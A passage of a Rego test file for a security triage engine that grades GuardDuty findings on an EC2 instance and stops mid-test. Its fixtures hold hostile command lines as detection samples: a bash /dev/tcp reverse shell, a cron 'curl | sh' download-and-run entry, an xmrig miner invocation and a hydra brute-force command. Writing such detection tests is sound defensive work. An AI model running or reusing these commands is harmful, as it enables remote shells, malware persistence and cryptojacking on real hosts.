package cordon.ec2.verdict_test

import data.cordon.ec2.verdict

# ---------------------------------------------------------------------------
# Inputs, shaped as the engine builds them (cordon's docs/policies.md)

instance_id := "i-0a1b2c3d4e5f67890"

instance := {
	"type": "aws_instance",
	"id": instance_id,
	"arn": "arn:aws:ec2:us-west-2:123456789012:instance/i-0a1b2c3d4e5f67890",
	"tags": {"Name": "web-1", "Environment": "prod"},
	"details": {
		"instance_id": instance_id,
		"image_id": "ami-0c2b8ca1dad447f8a",
		"instance_type": "t3.large",
		"instance_state": "running",
		"availability_zone": "us-west-2a",
		"public_ip": "54.201.17.33",
		"private_ip": "10.0.1.25",
		"subnet_id": "subnet-0f1e2d3c4b5a69788",
		"vpc_id": "vpc-0a9b8c7d6e5f43210",
		"security_groups": ["sg-0123456789abcdef0"],
		"iam_instance_profile_arn": "arn:aws:iam::123456789012:instance-profile/web-app",
	},
}

scores := {"informational": 0.5, "low": 2, "medium": 5, "high": 8, "critical": 9.5}

# finding is a GuardDuty finding about the instance; raw is the service
# block of the original, in camelCase unless a test says otherwise.
finding(type, severity, network, service) := {
	"id": "b2c8e1a4f3d94e6fa0c1d2e3f4a5b6c7",
	"source": "guardduty",
	"type": type,
	"title": sprintf("GuardDuty %s finding on %s.", [type, instance_id]),
	"severity": severity,
	"severity_score": scores[severity],
	"account": "123456789012",
	"region": "us-west-2",
	"partition": "aws",
	"count": 3,
	"resource": instance,
	"resources": [instance],
	"network": network,
	"raw": {"schemaVersion": "2.0", "type": type, "service": service},
}

dns(domain) := {"direction": "OUTBOUND", "protocol": "UDP", "domain": domain}

inbound(ip, port) := {"direction": "INBOUND", "protocol": "TCP", "local_port": port, "remote_ip": ip, "remote_port": 51844}

outbound(ip, port) := {"direction": "OUTBOUND", "protocol": "TCP", "remote_ip": ip, "remote_port": port}

actor_service := {"serviceName": "guardduty", "resourceRole": "ACTOR"}

target_service := {"serviceName": "guardduty", "resourceRole": "TARGET"}

threat_service := object.union(actor_service, {"evidence": {"threatIntelligenceDetails": [{"threatListName": "ProofPoint", "threatNames": ["Cobalt Strike"]}]}})

all_actions := ["tag", "protect", "isolate", "detach", "deregister", "snapshot", "stop", "notify"]

make_input(f, facts) := {
	"finding": f,
	"resource": f.resource,
	"facts": facts,
	"scope": {"name": "ec2_instances"},
	"rule": {"name": "ec2_compromise", "actions": all_actions},
}

describe := {
	"instance_id": instance_id,
	"state": "running",
	"instance_type": "t3.large",
	"public_ip": "54.201.17.33",
	"private_ip": "10.0.1.25",
	"iam_instance_profile": {"arn": "arn:aws:iam::123456789012:instance-profile/web-app", "id": "AIPAXQ4G7NF2KD3EXAMPL", "role_name": "web-app-role"},
	"volumes": [{"id": "vol-0a1b2c3d4e5f60001", "device": "/dev/xvda", "delete_on_termination": true, "size_gb": 30}],
	"tags": {"Name": "web-1", "Environment": "prod"},
	"target_groups": [],
	"load_balancers": [],
}

proc(pid, name, exe, cmdline, user) := {"pid": pid, "ppid": 1, "name": name, "exe": exe, "cmdline": cmdline, "user": user, "start_time": "2025-03-14T02:10:58Z", "sha256": ""}

conn(pid, state, ip, lport, rport) := {"pid": pid, "protocol": "tcp", "state": state, "local_ip": "10.0.1.25", "local_port": lport, "remote_ip": ip, "remote_port": rport}

sshd := proc(1184, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]", "root")

nginx := proc(1303, "nginx", "/usr/sbin/nginx", "nginx: worker process", "nginx")

xmrig := proc(24817, "xmrig", "/tmp/.ICE-unix/.x/xmrig", "/tmp/.ICE-unix/.x/xmrig -o pool.supportxmr.com:443 --donate-level 1 -B", "apache")

triage(extra) := object.union(
	{
		"hostname": "ip-10-0-1-25.us-west-2.compute.internal",
		"kernel": "6.1.128-136.201.amzn2023.x86_64",
		"collected_at": "2025-03-14T04:05:12Z",
		"processes": [sshd, nginx],
		"connections": [conn(1184, "LISTEN", "0.0.0.0", 22, 0), conn(1303, "ESTABLISHED", "10.0.0.201", 80, 61022)],
		"users": [],
		"logins": [{"user": "ec2-user", "from": "192.0.2.10", "time": "2025-03-11T16:20:44Z", "success": true}],
		"cron": [],
		"files": [],
		"authorized_keys": [],
		"truncated": false,
	},
	extra,
)

clean := triage({})

with_processes(ps) := triage({"processes": array.concat([sshd, nginx], ps)})

facts(t) := {"describe": describe, "triage": t}

# with_resource replaces the finding's resource (object.union would merge).
with_resource(f, r) := object.union(object.remove(f, ["resource", "resources"]), {"resource": r, "resources": [r]})

has_reason(doc, text) if {
	some r in doc.reasons
	contains(r, text)
}

# ---------------------------------------------------------------------------
# Malicious on the detector's word

test_backdoor_high_is_malicious_from_guardduty_alone if {
	x := make_input(finding("Backdoor:EC2/C&CActivity.B!DNS", "high", dns("cdn-sync.attacker.example"), actor_service), facts(clean))
	v := verdict with input as x
	v.verdict == "malicious"
	v.confidence == 0.8
	"GuardDuty: the instance queried a domain of a known command-and-control server (domain cdn-sync.attacker.example)" in v.reasons
	v.root_cause == "malware on the instance queried a domain of a known command-and-control server"
	v.summary == "Instance i-0a1b2c3d4e5f67890 (web-1) is compromised: malware on the instance queried a domain of a known command-and-control server."
}

test_threat_intelligence_raises_confidence if {
	x := make_input(finding("Backdoor:EC2/C&CActivity.B!DNS", "high", dns("cdn-sync.attacker.example"), threat_service), facts(clean))
	v := verdict with input as x
	v.verdict == "malicious"
	v.confidence == 0.9
	"GuardDuty: domain cdn-sync.attacker.example is on threat list ProofPoint (Cobalt Strike)" in v.reasons
}

test_threat_intelligence_in_pascal_case_raw if {
	f := finding("Backdoor:EC2/C&CActivity.B!DNS", "high", dns("cdn-sync.attacker.example"), null)
	pascal := object.union(f, {"raw": {"SchemaVersion": "2.0", "Service": {
		"ResourceRole": "ACTOR",
		"Evidence": {"ThreatIntelligenceDetails": [{"ThreatListName": "GeneratedFindingThreatListName", "ThreatNames": ["GeneratedFindingThreatName"]}]},
	}}})
	v := verdict with input as make_input(pascal, facts(clean))
	v.verdict == "malicious"
	v.confidence == 0.9
	has_reason(v, "is on threat list GeneratedFindingThreatListName (GeneratedFindingThreatName)")
}

# security_hub_copy(product_arn) is GuardDuty's C&C finding as Security Hub
# holds it, imported by the product product_arn names.
security_hub_copy(product_arn) := object.union(
	finding("TTPs/Command and Control/Backdoor:EC2-C&CActivity.B!DNS", "high", dns("cdn-sync.attacker.example"), null),
	{"source": "securityhub", "raw": {
		"ProductArn": product_arn,
		"ProductName": "GuardDuty",
		"CompanyName": "Amazon",
		"ProductFields": {
			"aws/guardduty/service/resourceRole": "ACTOR",
			"aws/guardduty/service/evidence/threatIntelligenceDetails.0_/threatListName": "ProofPoint",
			"aws/guardduty/service/evidence/threatIntelligenceDetails.0_/threatNames.0_": "Cobalt Strike",
		},
	}},
)

test_security_hub_form_of_the_type_and_evidence if {
	asff := security_hub_copy("arn:aws:securityhub:us-west-2::product/aws/guardduty")
	v := verdict with input as make_input(asff, facts(clean))
	v.verdict == "malicious"
	v.confidence == 0.9
	"GuardDuty: the instance queried a domain of a known command-and-control server (domain cdn-sync.attacker.example)" in v.reasons
	"GuardDuty: domain cdn-sync.attacker.example is on threat list ProofPoint (Cobalt Strike)" in v.reasons
}

# A custom product may import the same document, GuardDuty's names and
# ProductFields included; Security Hub gives it the product's own ARN, and
# its threat list is not GuardDuty's evidence.
test_forged_security_hub_finding_has_no_threat_list if {
	forged := security_hub_copy("arn:aws:securityhub:us-west-2:444455556666:product/444455556666/default")
	v := verdict with input as make_input(forged, facts(clean))
	not has_reason(v, "threat list")
	not has_reason(v, "ProofPoint")
	v.confidence != 0.9
}

test_threat_intelligence_alone_is_malicious if {
	x := make_input(finding("UnauthorizedAccess:EC2/MaliciousIPCaller.Custom", "medium", outbound("203.0.113.66", 443), threat_service), facts(clean))
	v := verdict with input as x
	v.verdict == "malicious"
	v.confidence == 0.8
	"GuardDuty: address 203.0.113.66 is on threat list ProofPoint (Cobalt Strike)" in v.reasons
}

test_threat_listed_attacker_of_the_instance_is_not_evidence_against_it if {
	inbound_threat := object.union(target_service, {"evidence": {"threatIntelligenceDetails": [{"threatListName": "ProofPoint", "threatNames": ["Scanner"]}]}})
	x := make_input(finding("Recon:EC2/PortProbeUnprotectedPort", "low", inbound("192.0.2.77", 8080), inbound_threat), facts(clean))
	v := verdict with input as x
	v.verdict == "inconclusive"
	"GuardDuty: address 192.0.2.77, which reached the instance from outside, is on threat list ProofPoint (Scanner)" in v.reasons
}

test_outbound_brute_force_is_malicious if {
	x := make_input(finding("UnauthorizedAccess:EC2/SSHBruteForce", "high", outbound("203.0.113.140", 22), actor_service), facts(clean))
	v := verdict with input as x
	v.verdict == "malicious"
	"GuardDuty: the instance itself is brute-forcing SSH on address 203.0.113.140: it is being used to attack others" in v.reasons
	v.root_cause == "the instance is compromised and is being used to brute-force other hosts"
	contains(v.impact, "blocklisted")
}

# scan_service is the service block of a Malware Protection for EC2 finding
# whose scan found threats (name, file paths).
scan_service(threats) := object.union(target_service, {
	"featureName": "EbsMalwareProtection",
	"ebsVolumeScanDetails": {"scanDetections": {"threatDetectedByName": {"threatNames": threats}}},
})

kinsing := {"name": "Linux.Trojan.Kinsing", "severity": "HIGH", "filePaths": [
	{"filePath": "/tmp/kdevtmpfsi", "fileName": "kdevtmpfsi", "hash": "8c1b2f", "volumeArn": "arn:aws:ec2:us-west-2:123456789012:volume/vol-0a1b2c3d4e5f60001"},
	{"filePath": "/etc/kinsing", "fileName": "kinsing", "hash": "93aa0c", "volumeArn": "arn:aws:ec2:us-west-2:123456789012:volume/vol-0a1b2c3d4e5f60001"},
]}

test_malware_on_the_volumes_is_malicious if {
	x := make_input(finding("Execution:EC2/MaliciousFile", "high", null, scan_service([kinsing])), facts(clean))
	v := verdict with input as x
	v.verdict == "malicious"
	v.confidence == 0.8
	"GuardDuty Malware Protection found Linux.Trojan.Kinsing in /etc/kinsing, /tmp/kdevtmpfsi on the instance's volumes" in v.reasons
	v.root_cause == "malware is on the instance's volumes (Linux.Trojan.Kinsing in /etc/kinsing, /tmp/kdevtmpfsi)"
}

test_malware_scan_without_named_threats if {
	x := make_input(finding("Execution:EC2/MaliciousFile", "medium", null, target_service), facts(clean))
	v := verdict with input as x
	v.verdict == "malicious"
	"GuardDuty Malware Protection: GuardDuty Execution:EC2/MaliciousFile finding on i-0a1b2c3d4e5f67890" in v.reasons
	v.root_cause == "GuardDuty Execution:EC2/MaliciousFile finding on i-0a1b2c3d4e5f67890 (Execution:EC2/MaliciousFile)"
}

test_low_severity_malware_is_suspicious if {
	grayware := {"name": "Linux.Miner.Generic", "filePaths": []}
	x := make_input(finding("Execution:EC2/MaliciousFile", "low", null, scan_service([grayware])), facts(clean))
	v := verdict with input as x
	v.verdict == "suspicious"
	"GuardDuty Malware Protection: GuardDuty Execution:EC2/MaliciousFile finding on i-0a1b2c3d4e5f67890 (Linux.Miner.Generic, low severity)" in v.reasons
}

test_potentially_unwanted_software_is_suspicious if {
	nmap := {"name": "HackTool.Nmap", "filePaths": [{"filePath": "/usr/local/bin/nmap"}]}
	x := make_input(finding("Execution:EC2/SuspiciousFile", "low", null, scan_service([nmap])), facts(clean))
	v := verdict with input as x
	v.verdict == "suspicious"
	"GuardDuty Malware Protection found potentially unwanted software on the instance's volumes: HackTool.Nmap in /usr/local/bin/nmap" in v.reasons
}

test_scanning_does_not_explain_malware_on_the_volumes if {
	x := make_input(finding("Execution:EC2/MaliciousFile", "high", null, scan_service([kinsing])), {"describe": scanner_describe, "triage": clean})
	v := verdict with input as x
	v.verdict == "malicious"
}

test_malicious_domain_lookup_at_high_is_malicious if {
	x := make_input(finding("Impact:EC2/MaliciousDomainRequest.Reputation", "high", dns("update.malware.example"), actor_service), facts(clean))
	v := verdict with input as x
	v.verdict == "malicious"
	"GuardDuty: the instance queried a domain known to be malicious (domain update.malware.example)" in v.reasons
	v.root_cause == "software on the instance queried a domain known to be malicious"
}

test_mining_domain_lookup_below_high_is_suspicious if {
	x := make_input(finding("Impact:EC2/BitcoinDomainRequest.Reputation", "medium", dns("xmr.pool.example"), actor_service), facts(clean))
	v := verdict with input as x
	v.verdict == "suspicious"
	"GuardDuty: the instance queried a domain of a cryptocurrency mining pool or Bitcoin service (domain xmr.pool.example), at medium severity" in v.reasons
}

test_poorly_reputed_domain_is_said_not_weighed if {
	x := make_input(finding("Impact:EC2/SuspiciousDomainRequest.Reputation", "low", dns("odd.example"), actor_service), facts(clean))
	v := verdict with input as x
	v.verdict == "inconclusive"
	"GuardDuty: the instance queried domain odd.example, a domain of poor reputation (GuardDuty Impact:EC2/SuspiciousDomainRequest.Reputation finding on i-0a1b2c3d4e5f67890)" in v.reasons
}

test_port_sweep_is_an_attack_on_others if {
	x := make_input(finding("Impact:EC2/PortSweep", "high", outbound("203.0.113.0", 445), actor_service), facts(clean))
	v := verdict with input as x
	v.verdict == "malicious"
	"GuardDuty: the instance is sweeping port 445 across many hosts: it is being used to attack others" in v.reasons
}

test_port_scan_is_suspicious_unless_authorized if {
	f := finding("Recon:EC2/Portscan", "medium", outbound("203.0.113.77", 0), actor_service)
	v := verdict with input as make_input(f, facts(clean))
	v.verdict == "suspicious"
	"GuardDuty: the instance is scanning other hosts (GuardDuty Recon:EC2/Portscan finding on i-0a1b2c3d4e5f67890) (address 203.0.113.77)" in v.reasons
	scanner := verdict with input as make_input(f, {"describe": scanner_describe, "triage": clean})
	scanner.verdict == "benign"
}

test_port_probe_is_said_not_weighed if {
	net := object.union(inbound("198.51.100.40", 3389), {"remote_country": "Netherlands"})
	v := verdict with input as make_input(finding("Recon:EC2/PortProbeUnprotectedPort", "low", net, target_service), facts(clean))
	v.verdict == "inconclusive"
	"GuardDuty: port 3389 is reachable from the internet and was probed from 198.51.100.40 (Netherlands); nothing in the finding shows a probe got further" in v.reasons
	unknown := verdict with input as make_input(finding("Recon:EC2/PortProbeEMRUnprotectedPort", "low", null, target_service), facts(clean))
	"GuardDuty: a port is reachable from the internet and was probed from the internet; nothing in the finding shows a probe got further" in unknown.reasons
}

test_unusual_traffic_is_said_not_weighed if {
	v := verdict with input as make_input(finding("DefenseEvasion:EC2/UnusualDoHActivity", "medium", outbound("203.0.113.53", 443), actor_service), facts(clean))
	v.verdict == "inconclusive"
	"GuardDuty: GuardDuty DefenseEvasion:EC2/UnusualDoHActivity finding on i-0a1b2c3d4e5f67890 (DefenseEvasion:EC2/UnusualDoHActivity); such traffic can hide command-and-control or exfiltration, but is not evidence of it alone" in v.reasons
}

test_root_cause_of_mining_traffic_without_a_miner_process if {
	x := make_input(finding("CryptoCurrency:EC2/BitcoinTool.B!DNS", "high", dns("pool.supportxmr.com"), actor_service), facts(clean))
	v := verdict with input as x
	v.verdict == "malicious"
	v.root_cause == "cryptocurrency mining software runs on the instance (GuardDuty saw mining-pool traffic)"
	"GuardDuty: the instance queried a domain of a cryptocurrency mining pool or Bitcoin service (domain pool.supportxmr.com)" in v.reasons
}

test_unknown_high_fidelity_family_falls_back_to_the_title if {
	x := make_input(finding("Trojan:EC2/SomethingNew", "high", outbound("203.0.113.9", 443), actor_service), facts(clean))
	v := verdict with input as x
	v.verdict == "malicious"
	"GuardDuty: the instance was reported by GuardDuty: GuardDuty Trojan:EC2/SomethingNew finding on i-0a1b2c3d4e5f67890 (address 203.0.113.9)" in v.reasons
}

# ---------------------------------------------------------------------------
# Malicious on the host's evidence

test_miner_and_detector_agree if {
	x := make_input(finding("CryptoCurrency:EC2/BitcoinTool.B!DNS", "high", dns("pool.supportxmr.com"), actor_service), facts(with_processes([xmrig])))
	v := verdict with input as x
	v.verdict == "malicious"
	v.confidence == 0.99
	"triage: cryptocurrency miner running: xmrig (pid 24817, user apache, /tmp/.ICE-unix/.x/xmrig)" in v.reasons
	v.root_cause == "a cryptocurrency miner (xmrig) was installed and runs as user apache"
	contains(v.impact, "mine cryptocurrency")
	contains(v.impact, "role web-app-role")
}

test_miner_on_the_host_alone if {
	x := make_input(finding("Behavior:EC2/TrafficVolumeUnusual", "medium", null, actor_service), facts(with_processes([xmrig])))
	v := verdict with input as x
	v.verdict == "malicious"
	v.confidence == 0.95
	has_reason(v, "triage: cryptocurrency miner running")
}

test_reverse_shell_by_connection if {
	shell := proc(3117, "bash", "/usr/bin/bash", "bash", "www-data")
	t := triage({
		"processes": [sshd, nginx, shell],
		"connections": [conn(3117, "ESTABLISHED", "203.0.113.50", 40022, 4444)],
	})
	v := verdict with input as make_input(finding("Trojan:EC2/DropPoint", "medium", null, actor_service), facts(t))
	v.verdict == "malicious"
	v.confidence == 0.95
	"triage: reverse shell: bash (pid 3117, user www-data, /usr/bin/bash) holds an established connection to 203.0.113.50:4444" in v.reasons
	v.root_cause == "an attacker has an interactive shell on the instance (bash connected to 203.0.113.50:4444)"
}

test_reverse_shell_by_command_line if {
	p := proc(3200, "bash", "/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.50/443 0>&1", "www-data")
	v := verdict with input as make_input(finding("UnauthorizedAccess:EC2/TorClient", "high", null, actor_service), facts(with_processes([p])))
	v.verdict == "malicious"
	has_reason(v, "triage: command line hands a shell to a socket: bash (pid 3200")
}

test_shell_run_from_dev_shm if {
	p := proc(3300, "sh", "/dev/shm/.s/sh", "sh", "www-data")
	v := verdict with input as make_input(finding("UnauthorizedAccess:EC2/TorClient", "high", null, actor_service), facts(with_processes([p])))
	v.verdict == "malicious"
	"triage: shell run from a world-writable directory: sh (pid 3300, user www-data, /dev/shm/.s/sh)" in v.reasons
}

test_program_in_memory_backed_directory if {
	p := proc(3400, "kthreadd", "/dev/shm/kthreadd", "[kthreadd]", "root")
	v := verdict with input as make_input(finding("UnauthorizedAccess:EC2/TorClient", "high", null, actor_service), facts(with_processes([p])))
	v.verdict == "malicious"
	"triage: program running from memory-backed /dev/shm: kthreadd (pid 3400, user root, /dev/shm/kthreadd)" in v.reasons
}

test_cron_persistence_and_preload_rootkit if {
	t := triage({
		"cron": [{"user": "apache", "schedule": "*/10 * * * *", "command": "curl -fsSL http://203.0.113.45/ldr.sh | sh", "source": "/var/spool/cron/apache"}],
		"files": [{"path": "/etc/ld.so.preload", "mtime": "2025-03-14T02:11:00Z", "size": 22, "sha256": ""}],
	})
	v := verdict with input as make_input(finding("UnauthorizedAccess:EC2/TorClient", "high", null, actor_service), facts(t))
	v.verdict == "malicious"
	"triage: cron entry of apache downloads and runs code: */10 * * * * curl -fsSL http://203.0.113.45/ldr.sh | sh" in v.reasons
	"triage: /etc/ld.so.preload was changed at 2025-03-14T02:11:00Z: a userland rootkit loads itself through it" in v.reasons
}

test_live_connection_to_the_remote_address_corroborates if {
	curl := proc(4100, "curl", "/usr/bin/curl", "curl -s http://203.0.113.9/p", "apache")
	t := triage({
		"processes": [sshd, nginx, curl],
		"connections": [conn(4100, "ESTABLISHED", "203.0.113.9", 48812, 80)],
	})
	v := verdict with input as make_input(finding("Trojan:EC2/BlackholeTraffic", "medium", outbound("203.0.113.9", 80), actor_service), facts(t))
	v.verdict == "malicious"
	v.confidence == 0.95
	"triage: curl (pid 4100, user apache, /usr/bin/curl) is still connected to the finding's remote address 203.0.113.9:80" in v.reasons
	v.root_cause == "malware on the instance tried to reach a black-holed address used by malware"
}

test_connection_of_an_unknown_process if {
	t := triage({"connections": [conn(9999, "ESTABLISHED", "203.0.113.9", 48812, 80)]})
	v := verdict with input as make_input(finding("Trojan:EC2/BlackholeTraffic", "medium", outbound("203.0.113.9", 80), actor_service), facts(t))
	"triage: pid 9999 is still connected to the finding's remote address 203.0.113.9:80" in v.reasons
}

# ---------------------------------------------------------------------------
# Brute force against the instance

brute_force := finding("UnauthorizedAccess:EC2/SSHBruteForce", "low", inbound("198.51.100.23", 22), target_service)

failed_logins := [
	{"user": "root", "from": "198.51.100.23", "time": "2025-03-14T05:30:02Z", "success": false},
	{"user": "admin", "from": "198.51.100.23", "time": "2025-03-14T05:30:05Z", "success": false},
]

test_failed_brute_force_is_benign if {
	v := verdict with input as make_input(brute_force, facts(triage({"logins": failed_logins})))
	v.verdict == "benign"
	v.confidence == 0.8
	"GuardDuty: inbound SSH brute force from 198.51.100.23 against the instance; GuardDuty rates it low because the instance was only the target" in v.reasons
	"triage: no successful login and no session from 198.51.100.23" in v.reasons
	v.summary == "UnauthorizedAccess:EC2/SSHBruteForce on instance i-0a1b2c3d4e5f67890 (web-1) is expected: internet background noise: SSH brute-force attempts from 198.51.100.23 against an exposed port, which GuardDuty did not see succeed."
	not v.impact
}

test_failed_brute_force_without_triage_is_benign_with_less_confidence if {
	v := verdict with input as make_input(brute_force, {"describe": describe})
	v.verdict == "benign"
	v.confidence == 0.6
	`no host triage (collector "triage" gathered nothing): nothing on the instance itself could be checked` in v.reasons
	not has_reason(v, "no successful login")
}

test_triage_error_is_stated if {
	v := verdict with input as make_input(brute_force, facts({"error": "SSM agent is not online"}))
	v.verdict == "benign"
	v.confidence == 0.6
	`no host triage (collector "triage" failed: SSM agent is not online): nothing on the instance itself could be checked` in v.reasons
}

test_successful_brute_force_is_malicious if {
	t := triage({
		"logins": array.concat(failed_logins, [{"user": "root", "from": "198.51.100.23", "time": "2025-03-14T06:12:43Z", "success": true}]),
		"users": [{"name": "root", "tty": "pts/0", "from": "198.51.100.23", "login_time": "2025-03-14T06:12:44Z"}],
	})
	v := verdict with input as make_input(brute_force, facts(t))
	v.verdict == "malicious"
	v.confidence == 0.95
	"triage: successful login as root from 198.51.100.23, the finding's remote address, at 2025-03-14T06:12:43Z" in v.reasons
	"triage: root is logged in from 198.51.100.23, the finding's remote address (tty pts/0)" in v.reasons
	v.root_cause == "an attacker logged in as root from 198.51.100.23"
}

test_earliest_attacker_login_is_the_root_cause if {
	t := triage({"logins": [
		{"user": "oracle", "from": "198.51.100.23", "time": "2025-03-14T06:20:00Z", "success": true},
		{"user": "admin", "from": "198.51.100.23", "time": "2025-03-14T06:12:43Z", "success": true},
	]})
	v := verdict with input as make_input(brute_force, facts(t))
	v.root_cause == "an attacker logged in as admin from 198.51.100.23"
}

test_attacker_still_connected_is_context_not_evidence if {
	t := triage({"connections": [conn(88211, "ESTABLISHED", "198.51.100.23", 22, 51844)]})
	v := verdict with input as make_input(brute_force, facts(t))
	v.verdict == "benign"
	"triage: the attacker's address 198.51.100.23:51844 is still connected to pid 88211: the attempts go on" in v.reasons
}

test_brute_force_from_inside_is_suspicious if {
	f := finding("UnauthorizedAccess:EC2/RDPBruteForce", "low", inbound("10.0.3.7", 3389), target_service)
	v := verdict with input as make_input(f, facts(clean))
	v.verdict == "suspicious"
	"GuardDuty: RDP brute force comes from 10.0.3.7, inside the network: another host may be compromised and moving laterally" in v.reasons
}

test_odd_processes_make_brute_force_suspicious if {
	tmp := proc(5100, "update", "/tmp/update", "/tmp/update", "apache")
	gone := proc(5101, "httpd", "/usr/local/bin/httpd (deleted)", "httpd", "apache")
	v := verdict with input as make_input(brute_force, facts(with_processes([tmp, gone])))
	v.verdict == "suspicious"
	v.confidence == 0.7
	"triage: program running from /tmp: update (pid 5100, user apache, /tmp/update)" in v.reasons
	"triage: httpd (pid 5101, user apache, /usr/local/bin/httpd (deleted)) runs an executable deleted since it started" in v.reasons
	v.root_cause == "undetermined: the evidence does not show how the instance was affected"
}

test_changed_authorized_keys_are_suspicious if {
	t := triage({"files": [{"path": "/root/.ssh/authorized_keys", "mtime": "2025-03-14T06:13:02Z", "size": 402, "sha256": ""}]})
	v := verdict with input as make_input(brute_force, facts(t))
	v.verdict == "suspicious"
	"triage: /root/.ssh/authorized_keys was changed at 2025-03-14T06:13:02Z: check it for keys added by an intruder" in v.reasons
}

# timed is a finding first seen at 05:20 and last seen at 05:40.
timed(f) := object.union(f, {"created_at": "2025-03-14T05:20:00Z", "updated_at": "2025-03-14T05:40:00Z"})

test_authorized_keys_changed_during_the_window_is_malicious if {
	t := triage({"files": [{"path": "/root/.ssh/authorized_keys", "mtime": "2025-03-14T06:13:02Z", "size": 402, "sha256": ""}]})
	v := verdict with input as make_input(timed(brute_force), facts(t))
	v.verdict == "malicious"
	"triage: /root/.ssh/authorized_keys was changed at 2025-03-14T06:13:02Z, during the finding's window: persistence added while the attack went on" in v.reasons
	not has_reason(v, "check it for keys added by an intruder")
}

test_cron_and_timer_added_during_the_window_are_malicious if {
	t := triage({"files": [
		{"path": "/var/spool/cron/crontabs/www-data", "mtime": "2025-03-14T05:31:40Z", "size": 61, "sha256": ""},
		{"path": "/etc/systemd/system/dbus-helper.timer", "mtime": "2025-03-14T04:25:00Z", "size": 120, "sha256": ""},
		{"path": "/etc/nginx/nginx.conf", "mtime": "2025-03-14T05:30:00Z", "size": 2100, "sha256": ""},
	]})
	v := verdict with input as make_input(timed(brute_force), facts(t))
	v.verdict == "malicious"
	"triage: /var/spool/cron/crontabs/www-data was changed at 2025-03-14T05:31:40Z, during the finding's window: persistence added while the attack went on" in v.reasons
	"triage: /etc/systemd/system/dbus-helper.timer was changed at 2025-03-14T04:25:00Z, during the finding's window: persistence added while the attack went on" in v.reasons
	not has_reason(v, "nginx.conf")
}

test_persistence_outside_the_window_is_not_evidence_of_this_attack if {
	# Changed two days before the finding: a deploy, perhaps; worth a look,
	# not proof.
	t := triage({"files": [
		{"path": "/root/.ssh/authorized_keys", "mtime": "2025-03-12T09:00:00Z", "size": 402, "sha256": ""},
		{"path": "/etc/cron.d/backup", "mtime": "2025-03-12T09:00:00Z", "size": 80, "sha256": ""},
	]})
	v := verdict with input as make_input(timed(brute_force), facts(t))
	v.verdict == "suspicious"
	"triage: /root/.ssh/authorized_keys was changed at 2025-03-12T09:00:00Z: check it for keys added by an intruder" in v.reasons
	not has_reason(v, "during the finding's window")
}

test_no_window_without_finding_times if {
	t := triage({"files": [{"path": "/etc/cron.d/backup", "mtime": "2025-03-14T05:30:00Z", "size": 80, "sha256": ""}]})
	v := verdict with input as make_input(brute_force, facts(t))
	not has_reason(v, "during the finding's window")
}

test_unparsable_mtime_is_ignored if {
	t := triage({"files": [{"path": "/etc/cron.d/x", "mtime": "yesterday", "size": 80, "sha256": ""}]})
	v := verdict with input as make_input(timed(brute_force), facts(t))
	not has_reason(v, "during the finding's window")
}

test_mining_pool_port_without_a_known_miner if {
	p := proc(6100, "java", "/usr/bin/java", "java -jar worker.jar", "app")
	t := triage({"processes": [sshd, p], "connections": [conn(6100, "ESTABLISHED", "198.51.100.200", 50100, 3333)]})
	v := verdict with input as make_input(brute_force, facts(t))
	v.verdict == "suspicious"
	"triage: java (pid 6100, user app, /usr/bin/java) has an established connection to mining-pool port 198.51.100.200:3333" in v.reasons
}

# ---------------------------------------------------------------------------
# Authorized scanners

scanner_describe := object.union(describe, {"tags": {"Name": "vuln-scanner-1", "cordon:authorized-scanner": "true"}})

outbound_brute_force := finding("UnauthorizedAccess:EC2/SSHBruteForce", "high", outbound("203.0.113.140", 22), actor_service)

test_authorized_scanner_explains_its_scanning if {
	hydra := proc(2288, "hydra", "/usr/bin/hydra", "hydra -P weak.txt ssh://203.0.113.140", "scanner")
	t := triage({"processes": [sshd, hydra], "connections": [conn(2288, "ESTABLISHED", "203.0.113.140", 40122, 22)]})
	v := verdict with input as make_input(outbound_brute_force, {"describe": scanner_describe, "triage": t})
	v.verdict == "benign"
	v.confidence == 0.9
	"the instance is tagged cordon:authorized-scanner = \"true\": it is an authorized scanner" in v.reasons
	v.summary == "UnauthorizedAccess:EC2/SSHBruteForce on instance i-0a1b2c3d4e5f67890 (vuln-scanner-1) is expected: the instance is an authorized scanner (tagged cordon:authorized-scanner = \"true\"), and scanning explains UnauthorizedAccess:EC2/SSHBruteForce."
}

test_scanner_tag_from_the_finding_when_describe_failed if {
	f := with_resource(outbound_brute_force, object.union(instance, {"tags": {"cordon:authorized-scanner": "true"}}))
	v := verdict with input as make_input(f, {"describe": {"error": "UnauthorizedOperation"}, "triage": clean})
	v.verdict == "benign"
	`no live instance description (collector "describe" failed: UnauthorizedOperation): tags and state are as the finding reported them` in v.reasons
}

test_live_tags_override_the_findings if {
	f := with_resource(outbound_brute_force, object.union(instance, {"tags": {"cordon:authorized-scanner": "true"}}))
	revoked := object.union(describe, {"tags": {"cordon:authorized-scanner": "false"}})
	v := verdict with input as make_input(f, {"describe": revoked, "triage": clean})
	v.verdict == "malicious"
}

test_scanning_does_not_explain_malware if {
	f := finding("Backdoor:EC2/C&CActivity.B!DNS", "high", dns("cdn-sync.attacker.example"), actor_service)
	v := verdict with input as make_input(f, {"describe": scanner_describe, "triage": clean})
	v.verdict == "malicious"
	"the instance is tagged cordon:authorized-scanner = \"true\", but scanning does not explain Backdoor:EC2/C&CActivity.B!DNS" in v.reasons
}

test_scanning_does_not_explain_a_miner if {
	v := verdict with input as make_input(outbound_brute_force, {"describe": scanner_describe, "triage": with_processes([xmrig])})
	v.verdict == "malicious"
	v.confidence == 0.99
	has_reason(v, "but scanning does not explain")
}

# ---------------------------------------------------------------------------
# Suspicious and inconclusive

test_unauthorized_access_on_a_public_instance_is_suspicious if {
	f := finding("UnauthorizedAccess:EC2/TorIPCaller", "medium", inbound("198.51.100.99", 443), target_service)
	v := verdict with input as make_input(f, facts(clean))
	v.verdict == "suspicious"
	v.confidence == 0.6
	"GuardDuty: GuardDuty UnauthorizedAccess:EC2/TorIPCaller finding on i-0a1b2c3d4e5f67890 (UnauthorizedAccess:EC2/TorIPCaller) against the instance, which is reachable from the internet at 54.201.17.33" in v.reasons
	v.summary == "Instance i-0a1b2c3d4e5f67890 (web-1) shows signs of compromise that need a responder: UnauthorizedAccess:EC2/TorIPCaller at medium severity."
	v.impact == "instance i-0a1b2c3d4e5f67890 (t3.large, running) is reachable from the internet at 54.201.17.33"
}

test_suspicious_without_triage_is_less_certain if {
	f := finding("UnauthorizedAccess:EC2/TorIPCaller", "medium", inbound("198.51.100.99", 443), target_service)
